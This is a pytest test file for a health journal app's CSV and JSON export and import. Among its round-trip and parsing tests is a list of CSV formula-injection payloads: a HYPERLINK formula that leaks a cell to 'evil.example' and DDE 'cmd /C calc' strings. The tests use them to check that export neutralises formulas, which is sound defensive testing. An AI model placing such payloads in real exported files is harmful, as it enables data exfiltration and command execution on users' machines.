import csv
import datetime as dt
import io

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from journal.demo import demo_entries
from journal.domain import Activity, Entry
from journal.domain.entry import LATEST_DATE
from journal.exchange import JournalDocument, plan_import
from tests.helpers import export_days, read_days
from tests.strategies import entries

TRICKY = [
    Entry(dt.date(2024, 1, 1), pain=4, notes='commas, "quotes", and\nnew lines\nhere',
          tags=("flare", "a b"), activities=(Activity("walking", 30, "moderate"),
                                              Activity("physical therapy", 45))),
    Entry(dt.date(2024, 1, 2), mood=7, notes="emoji 😣🌧️ and right-to-left: שלום עולם, مرحبا",
          activities=()),
    Entry(dt.date(2024, 1, 3), sleep_hours=6.25, notes="=SUM(A1) looks like a formula; ok",
          created_at="2026-01-03T21:00:00Z", updated_at="2026-01-04T07:30:00Z"),
]


def _journal_with(store, items):
    store.save_many(items)
    return store.between()


@pytest.mark.parametrize("fmt", ["csv", "json"])
def test_export_import_export_is_byte_identical_on_a_year_of_demo_data(store, tmp_path, fmt):
    from journal.storage import EntryStore, open_database

    original = _journal_with(store, demo_entries(365, seed=7) + TRICKY)
    first = export_days(original, fmt)
    fresh = EntryStore(open_database(tmp_path / "fresh.db"))
    fresh.save_many(read_days(first, fmt))
    assert export_days(fresh.between(), fmt) == first
    assert fresh.between() == original


@settings(max_examples=60, deadline=None)
@given(items=st.lists(entries, max_size=6, unique_by=lambda e: e.date))
def test_any_valid_entries_survive_both_formats(items):
    items = sorted(items, key=lambda e: e.date)
    for fmt in ("csv", "json"):
        assert read_days(export_days(items, fmt), fmt, latest=LATEST_DATE) == items


def test_csv_is_utf8_with_header_and_one_row_per_day():
    data = export_days(TRICKY, "csv")
    assert data.startswith(b"\xef\xbb\xbfdate,pain,worst_pain,pain_interference,mood,energy,"
                           b"sleep_hours,sleep_quality,activity_minutes,activities,tags,notes,")
    text = data.decode("utf-8-sig")
    assert text.splitlines()[0].endswith("notes,created_at,updated_at")
    assert "walking:30:moderate; physical therapy:45" in text
    assert ",0,none," in text  # explicit no exercise


def test_a_spreadsheet_csv_without_optional_columns_imports():
    data = "date,pain,sleep_hours,activities\n2026-02-01,5,7:30,walking:20\n2026-02-02,,\"7,5\",\n"
    got = read_days(data.encode(), "csv")
    assert got[0] == Entry(dt.date(2026, 2, 1), pain=5, sleep_hours=7.5,
                           activities=(Activity("walking", 20),))
    assert got[1] == Entry(dt.date(2026, 2, 2), sleep_hours=7.5)


def test_a_crlf_file_with_blank_lines_imports():
    data = b"date,pain\r\n2026-02-01,5\r\n\r\n2026-02-02,6\r\n"
    assert [e.pain for e in read_days(data, "csv")] == [5, 6]


def test_import_plan_counts_new_changed_and_unchanged_days(store):
    store.save(Entry(dt.date(2026, 1, 1), pain=4))
    store.save(Entry(dt.date(2026, 1, 2), pain=4))
    plan = plan_import(JournalDocument(days=store.between()),
                       JournalDocument(days=[Entry(dt.date(2026, 1, 1), pain=4),
                                             Entry(dt.date(2026, 1, 2), pain=5),
                                             Entry(dt.date(2026, 1, 3), pain=6)]))
    days = plan.sections["days"]
    assert (len(days.new), len(days.changed), days.unchanged) == (1, 1, 1)
    assert plan.describe(done=False) == ("Would add 1 day and replace 1 day; 1 day already the "
                                         "same. Nothing was written (dry run).")


FORMULAS = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+cmd|' /C calc'!A0",
            "@SUM(1+1)*cmd|' /C calc'!A0", "-2+3"]


def _cells(data: bytes) -> list[dict[str, str]]:
    header, *rows = csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
    return [dict(zip(header, row, strict=True)) for row in rows]


@pytest.mark.parametrize("formula", FORMULAS)
def test_csv_export_writes_text_that_could_be_a_formula_as_text(formula):
    day = Entry(dt.date(2024, 1, 1), pain=3, notes=formula, tags=("=1+1", "flare"),
                activities=(Activity("@home", 5),))
    data = export_days([day], "csv")
    [cells] = _cells(data)
    assert cells["notes"] == "'" + formula
    assert cells["tags"] == "'=1+1; flare"
    assert cells["activities"] == "'@home:5"
    assert (cells["pain"], cells["activity_minutes"]) == ("3", "5")  # numbers are left alone
    assert read_days(data, "csv") == [day]


QUOTED = [
    Entry(dt.date(2024, 1, 1), notes="'=x", tags=("'a", "b")),
    Entry(dt.date(2024, 1, 2), notes="'hello", activities=(Activity("'x", 5),)),
    Entry(dt.date(2024, 1, 3), notes="''", tags=("=b",)),
    Entry(dt.date(2024, 1, 4), notes="hello 'world'", tags=("plain",)),
]


def test_a_leading_quote_is_marked_too_so_every_text_round_trips_byte_for_byte():
    first = export_days(QUOTED, "csv")
    assert [(c["notes"], c["tags"], c["activities"]) for c in _cells(first)] == [
        ("''=x", "''a; b", ""), ("''hello", "", "''x:5"), ("'''", "'=b", ""),
        ("hello 'world'", "plain", "")]
    again = read_days(first, "csv")
    assert again == QUOTED
    assert export_days(again, "csv") == first


def test_a_spreadsheet_text_mark_is_removed_on_import():
    data = "date,tags,notes\n2024-01-01,'=a; b,'+1\n2024-01-02,plain,'plain\n"
    got = read_days(data.encode(), "csv")
    assert [(e.tags, e.notes) for e in got] == [(("=a", "b"), "+1"), (("plain",), "plain")]
